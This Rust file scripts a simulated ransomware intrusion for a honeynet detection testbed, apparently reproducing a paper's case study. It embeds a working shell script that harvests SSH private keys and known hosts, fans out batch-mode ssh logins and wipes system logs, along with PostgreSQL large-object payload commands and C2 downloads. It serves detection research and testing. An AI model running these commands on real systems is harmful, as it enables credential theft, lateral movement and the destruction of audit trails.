//! The §V ransomware case study, scripted.
//!
//! Reproduces the attack the testbed attracted and preempted:
//!
//! - October 2024: repeated probing of PostgreSQL port 5432;
//! - **Oct 30**: entry through an open 5432 with privileged access;
//!   step 1 `SHOW server_version_num`; step 2 ELF payload (`7F454C46…`)
//!   into a `largeobject`; step 3 `/tmp/kp` dropped via `lo_export`;
//! - recursive lateral movement with stolen SSH keys (Fig. 5's script);
//! - C2 communication (the event the model detected), log wiping;
//! - **Nov 11** (+12 days): the same family hits a production host —
//!   the incident-report snippet's `sys.x86_64` / `ldr.sh` downloads at
//!   03:44 and SSH scanning an hour later.

use std::net::Ipv4Addr;

use honeynet::deploy::HoneynetDeployment;
use simnet::action::{
    Action, AuthMethod, ExecAction, FileOp, FileOpAction, HttpAction, SshAuthAction,
};
use simnet::flow::{ConnState, Flow, FlowId, Service};
use simnet::time::{SimDuration, SimTime};
use simnet::topology::{HostId, Topology};

/// Fig. 5's lateral-movement payload, verbatim in structure: enumerate
/// keys, hosts and users, then loop ssh in batch mode.
pub const FIG5_SCRIPT: &str = r#"KEYS=$(find ~/ /root /home -maxdepth 2 -name 'id_rsa*' | grep -vw pub)
HOSTS=$(cat ~/.ssh/config /home/*/.ssh/config /root/.ssh/config | grep HostName)
HOSTS2=$(cat ~/.bash_history /home/*/.bash_history /root/.bash_history | grep -E "(ssh|scp)")
HOSTS3=$(cat ~/*/.ssh/known_hosts /home/*/.ssh/known_hosts /root/.ssh/known_hosts)
for user in $users; do
  for host in $hosts; do
    for key in $keys; do
      chmod +r $key; chmod 400 $key
      ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 $user@$host -i $key
    done
  done
done
echo 0>/var/spool/mail/root
echo 0>/var/log/wtmp
echo 0>/var/log/secure
echo 0>/var/log/cron"#;

/// Scenario parameters.
#[derive(Debug, Clone)]
pub struct RansomwareConfig {
    /// Attacker source (the paper's initial connection came from
    /// 111.200.z.t).
    pub attacker: Ipv4Addr,
    /// C2 server (the paper's payload host 194.145.x.y).
    pub c2_server: Ipv4Addr,
    /// Day of first probing.
    pub probe_start: SimTime,
    /// Number of probe days before entry.
    pub probe_days: u64,
    /// Entry instant (Oct 30, 03:44 per the incident snippet's timing).
    pub entry: SimTime,
    /// Lead before the production wave (the paper's twelve days).
    pub production_delay: SimDuration,
    /// Lateral-movement ssh targets tried from the compromised instance.
    pub lateral_targets: usize,
}

impl Default for RansomwareConfig {
    fn default() -> Self {
        RansomwareConfig {
            attacker: "111.200.45.67".parse().expect("static"),
            c2_server: "194.145.22.33".parse().expect("static"),
            probe_start: SimTime::from_date(2024, 10, 1),
            probe_days: 29,
            entry: SimTime::from_datetime(2024, 10, 30, 3, 44, 0),
            production_delay: SimDuration::from_days(12),
            lateral_targets: 6,
        }
    }
}

/// Output of the scripted scenario: a time-ordered action list plus ground
/// truth markers for evaluation.
#[derive(Debug)]
pub struct RansomwareScenario {
    pub actions: Vec<(SimTime, Action)>,
    /// When the honeypot-side C2 communication happens (the detection
    /// opportunity).
    pub c2_time: SimTime,
    /// When the production wave begins (damage to beat by ≥12 days).
    pub production_time: SimTime,
    /// The production host attacked in the second wave.
    pub production_victim: Ipv4Addr,
}

/// Build the full scripted scenario against a deployed honeynet.
///
/// The honeypot session drives the real service emulators (so replies like
/// `server_version_num` are authentic); everything else is scripted action
/// generation.
pub fn build_scenario(
    topo: &Topology,
    deployment: &mut HoneynetDeployment,
    cfg: &RansomwareConfig,
) -> RansomwareScenario {
    let mut actions: Vec<(SimTime, Action)> = Vec::new();
    let entry_addr = deployment.entry_addrs()[0];
    let mut flow_seq = 0xAA00u64;
    let mut fresh_flow = |t: SimTime, src: Ipv4Addr, dst: Ipv4Addr, port: u16, ok: bool| {
        flow_seq += 1;
        if ok {
            Flow::established(
                FlowId(flow_seq),
                t,
                SimDuration::from_secs(30),
                src,
                41_000 + (flow_seq % 10_000) as u16,
                dst,
                port,
                2_048,
                1_024,
            )
        } else {
            Flow::probe(FlowId(flow_seq), t, src, dst, port)
        }
    };

    // --- October: repeated probing of 5432 across the honeynet /24. ---
    for day in 0..cfg.probe_days {
        let base = cfg.probe_start + SimDuration::from_days(day);
        for (i, &entry) in deployment.entry_addrs().iter().enumerate() {
            let t = base + SimDuration::from_mins(7 * (i as u64 + 1));
            actions.push((
                t,
                Action::Flow(fresh_flow(t, cfg.attacker, entry, 5432, false)),
            ));
        }
    }

    // --- Oct 30: entry with privileged access (default credentials). ---
    let mut t = cfg.entry;
    let (ok, auth_actions) =
        deployment.db_connect(t, cfg.attacker, entry_addr, "postgres", "postgres");
    assert!(
        ok,
        "honeypot must accept the advertised default credentials"
    );
    actions.extend(auth_actions);

    // Step 1: reconnaissance.
    t += SimDuration::from_secs(41);
    let (_, acts) = deployment.db_command(t, cfg.attacker, entry_addr, "SHOW server_version_num");
    actions.extend(acts);

    // Step 2: ELF payload into a largeobject (hex 7F454C46…).
    t += SimDuration::from_mins(3);
    let payload_stmt = format!(
        "SELECT lo_from_bytea(0, decode('7f454c460201010000{}','hex'))",
        "90".repeat(24_000)
    );
    let (_, acts) = deployment.db_command(t, cfg.attacker, entry_addr, &payload_stmt);
    actions.extend(acts);

    // Step 3: drop /tmp/kp via lo_export.
    t += SimDuration::from_mins(2);
    let (_, acts) = deployment.db_command(
        t,
        cfg.attacker,
        entry_addr,
        "SELECT lo_export(16384, '/tmp/kp')",
    );
    actions.extend(acts);

    // --- Lateral movement: the Fig. 5 script on the compromised host. ---
    let container_host = topo
        .host_by_addr(entry_addr)
        .map(|_| ())
        .and_then(|_| {
            // The container host is registered right after its entry point.
            topo.hosts()
                .iter()
                .find(|h| h.name.starts_with("hpot-ctr"))
                .map(|h| h.id)
        })
        .unwrap_or(HostId(0));
    t += SimDuration::from_mins(5);
    let script_lines = [
        "find ~/ /root /home -maxdepth 2 -name id_rsa* | grep -vw pub",
        "cat ~/.ssh/config /home/*/.ssh/config /root/.ssh/config | grep HostName",
        "cat ~/.bash_history /home/*/.bash_history /root/.bash_history",
        "cat ~/*/.ssh/known_hosts /home/*/.ssh/known_hosts /root/.ssh/known_hosts",
    ];
    for (i, line) in script_lines.iter().enumerate() {
        let lt = t + SimDuration::from_secs(10 * (i as u64 + 1));
        actions.push((
            lt,
            Action::Exec(ExecAction {
                host: container_host,
                user: "postgres".into(),
                pid: 7_000 + i as u32,
                ppid: 1,
                exe: "/bin/bash".into(),
                cmdline: line.to_string(),
            }),
        ));
    }
    // Batch-mode ssh fan-out to historical hosts with stolen keys.
    t += SimDuration::from_mins(2);
    let production = simnet::addr::ncsa_production();
    for i in 0..cfg.lateral_targets {
        let lt = t + SimDuration::from_secs(5 * i as u64);
        let target_addr = production.nth(512 + 97 * i as u64);
        let target_host = topo.host_by_addr(target_addr).map(|h| h.id);
        actions.push((
            lt,
            Action::Exec(ExecAction {
                host: container_host,
                user: "postgres".into(),
                pid: 7_100 + i as u32,
                ppid: 1,
                exe: "/usr/bin/ssh".into(),
                cmdline: format!(
                    "ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 root@{target_addr} -i /tmp/stolen_key"
                ),
            }),
        ));
        let ft = lt + SimDuration::from_millis(300);
        actions.push((
            ft,
            Action::SshAuth(SshAuthAction {
                flow: fresh_flow(ft, entry_addr, target_addr, 22, false),
                target: target_host,
                user: "root".into(),
                method: AuthMethod::PublicKey,
                success: false,
                client_banner: "SSH-2.0-libssh2".into(),
            }),
        ));
    }

    // --- C2 communication: the detection opportunity. ---
    let c2_time = t + SimDuration::from_mins(4);
    actions.push((
        c2_time,
        Action::Flow(fresh_flow(c2_time, entry_addr, cfg.c2_server, 443, false)),
    ));

    // --- Trace wiping (Fig. 5's final lines). ---
    let wipe_base = c2_time + SimDuration::from_mins(1);
    for (i, path) in [
        "/var/spool/mail/root",
        "/var/log/wtmp",
        "/var/log/secure",
        "/var/log/cron",
    ]
    .iter()
    .enumerate()
    {
        actions.push((
            wipe_base + SimDuration::from_secs(i as u64),
            Action::FileOp(FileOpAction {
                host: container_host,
                user: "postgres".into(),
                path: path.to_string(),
                op: FileOp::Truncate,
                process: "bash".into(),
            }),
        ));
    }

    // --- The production wave, twelve days later (the incident report). ---
    let production_time = cfg.entry + cfg.production_delay;
    let production_victim = production.nth(1_025);
    // 03:44 downloads from the incident snippet.
    for (i, uri) in ["/sys.x86_64", "/ldr.sh?e7945e_postgres:postgres"]
        .iter()
        .enumerate()
    {
        let dt = production_time + SimDuration::from_secs(30 * i as u64);
        actions.push((
            dt,
            Action::Http(HttpAction {
                flow: Flow {
                    id: FlowId(0xBB00 + i as u64),
                    start: dt,
                    duration: SimDuration::from_secs(2),
                    src: production_victim,
                    src_port: 51_000 + i as u16,
                    dst: cfg.c2_server,
                    dst_port: 80,
                    proto: simnet::flow::Proto::Tcp,
                    state: ConnState::SF,
                    service: Service::Http,
                    orig_bytes: 300,
                    resp_bytes: 1_200_000,
                },
                method: "GET".into(),
                host: cfg.c2_server.to_string(),
                uri: uri.to_string(),
                status: 200,
                mime: if i == 0 {
                    "application/x-executable"
                } else {
                    "text/x-shellscript"
                }
                .into(),
                user_agent: "curl/7.61".into(),
            }),
        ));
    }
    // An hour later: SSH scanning from the compromised production host.
    let scan_base = production_time + SimDuration::from_hours(1);
    for i in 0..40u64 {
        let st = scan_base + SimDuration::from_secs(i);
        let dst = production.nth(2_000 + i * 13);
        actions.push((
            st,
            Action::Flow(fresh_flow(st, production_victim, dst, 22, false)),
        ));
    }

    actions.sort_by_key(|(t, _)| *t);
    RansomwareScenario {
        actions,
        c2_time,
        production_time,
        production_victim,
    }
}

/// The alert-kind sequence the honeypot phase is expected to produce —
/// used by tests and by the detector-training corpus.
pub fn expected_honeypot_kinds() -> Vec<alertlib::taxonomy::AlertKind> {
    use alertlib::taxonomy::AlertKind::*;
    vec![
        RepeatedProbeDb,
        DefaultCredentialUse,
        DbVersionRecon,
        ElfMagicInDbBlob,
        LoExportExecution,
        FileDropTmp,
        SshKeyEnumeration,
        KnownHostsEnumeration,
        BashHistoryAccess,
        LateralMovementAttempt,
        C2Communication,
        LogWipe,
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use honeynet::deploy::DeployConfig;
    use simnet::topology::NcsaTopologyBuilder;

    fn scenario() -> RansomwareScenario {
        let mut topo = NcsaTopologyBuilder::default().build();
        let mut dep = HoneynetDeployment::install(&mut topo, &DeployConfig::default());
        build_scenario(&topo, &mut dep, &RansomwareConfig::default())
    }

    #[test]
    fn actions_are_time_ordered() {
        let s = scenario();
        for w in s.actions.windows(2) {
            assert!(w[1].0 >= w[0].0);
        }
        assert!(
            s.actions.len() > 400,
            "probing + attack + wave: got {}",
            s.actions.len()
        );
    }

    #[test]
    fn twelve_day_lead_structure() {
        let s = scenario();
        let lead = s.production_time - s.c2_time;
        let days = lead.as_days();
        assert!(
            (11..=12).contains(&days),
            "production wave follows the C2 detection by ~12 days, got {days}"
        );
    }

    #[test]
    fn honeypot_phase_contains_all_three_steps() {
        use simnet::action::DbCommandKind;
        let s = scenario();
        let mut saw_version = false;
        let mut saw_elf = false;
        let mut saw_export = false;
        for (_, a) in &s.actions {
            if let Action::Db(d) = a {
                match &d.command {
                    DbCommandKind::ShowVersion => saw_version = true,
                    DbCommandKind::LargeObjectWrite { hex_prefix, .. } => {
                        assert!(hex_prefix.starts_with("7F454C46"));
                        saw_elf = true;
                    }
                    DbCommandKind::LoExport { path } => {
                        assert_eq!(path, "/tmp/kp");
                        saw_export = true;
                    }
                    _ => {}
                }
            }
        }
        assert!(saw_version && saw_elf && saw_export);
    }

    #[test]
    fn fig5_script_lines_present() {
        let s = scenario();
        let cmdlines: Vec<&str> = s
            .actions
            .iter()
            .filter_map(|(_, a)| match a {
                Action::Exec(e) => Some(e.cmdline.as_str()),
                _ => None,
            })
            .collect();
        assert!(cmdlines.iter().any(|c| c.contains("id_rsa")));
        assert!(cmdlines.iter().any(|c| c.contains("known_hosts")));
        assert!(cmdlines.iter().any(|c| c.contains("bash_history")));
        assert!(cmdlines.iter().any(|c| c.contains("-oBatchMode=yes")));
        assert!(FIG5_SCRIPT.contains("oBatchMode=yes"));
    }

    #[test]
    fn production_wave_matches_incident_snippet() {
        let s = scenario();
        let https: Vec<_> = s
            .actions
            .iter()
            .filter_map(|(_, a)| match a {
                Action::Http(h) => Some(h),
                _ => None,
            })
            .collect();
        assert_eq!(https.len(), 2);
        assert!(https.iter().any(|h| h.uri.contains("sys.x86_64")));
        assert!(https.iter().any(|h| h.uri.contains("ldr.sh")));
        // 03:44 as in "Alerted to the following downloads to this host at 3:44a".
        let (h, m, _) = s.production_time.time_of_day();
        assert_eq!((h, m), (3, 44));
    }

    #[test]
    fn log_wipe_covers_fig5_targets() {
        let s = scenario();
        let wiped: Vec<&str> = s
            .actions
            .iter()
            .filter_map(|(_, a)| match a {
                Action::FileOp(f) if f.op == FileOp::Truncate => Some(f.path.as_str()),
                _ => None,
            })
            .collect();
        for p in [
            "/var/spool/mail/root",
            "/var/log/wtmp",
            "/var/log/secure",
            "/var/log/cron",
        ] {
            assert!(wiped.contains(&p), "{p} must be wiped");
        }
    }
}
